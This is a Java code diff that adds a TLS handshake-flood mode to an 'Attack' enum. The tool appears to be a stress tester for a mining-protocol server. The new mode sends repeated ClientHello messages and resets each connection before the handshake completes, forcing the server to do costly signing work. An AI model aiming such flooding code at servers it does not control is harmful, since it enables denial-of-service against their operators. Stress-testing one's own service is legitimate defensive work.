@@ -80,6 +80,16 @@ public enum Attack {
             attacker.writeToAll(PINGS.length, PINGS);
             attacker.pauseMillis(10);
         }
+    },
+    /** 100 TLS handshakes a second that the server has to sign for, reset before they end. */
+    HANDSHAKES {
+        @Override
+        void round(Attacker attacker) throws IOException {
+            attacker.hold(1);
+            attacker.writeToAll(attacker.hello.length, attacker.hello);
+            attacker.pauseMillis(10);
+            attacker.resetAll();
+        }
     };
 
     private static final int CONNECTS_A_SECOND = 10_000;
@@ -91,6 +101,11 @@ public enum Attack {
     private static final byte[] LONG_LINE = "x".repeat(64 * 1024).getBytes(StandardCharsets.US_ASCII);
     private static final byte[] PINGS =
             "{\"id\":1,\"method\":\"mining.ping\",\"params\":[]}\n".repeat(20).getBytes(StandardCharsets.US_ASCII);
+
+    /** Whether it is for a port that speaks TLS. */
+    public boolean isOverTls() {
+        return this == HANDSHAKES;
+    }
 
     abstract void round(Attacker attacker) throws IOException;
 
@@ -132,12 +147,13 @@ public enum Attack {
         private static final long NANOS_PER_MILLI = 1_000_000;
 
         private final InetSocketAddress target;
+        private final byte[] hello = ClientHello.make();
         private final Deque<SocketChannel> open = new ArrayDeque<>();
         private int opened;
         private int at;
         private long due = System.nanoTime();
 
-        Attacker(InetSocketAddress target) {
+        Attacker(InetSocketAddress target) throws IOException {
             this.target = target;
         }
 
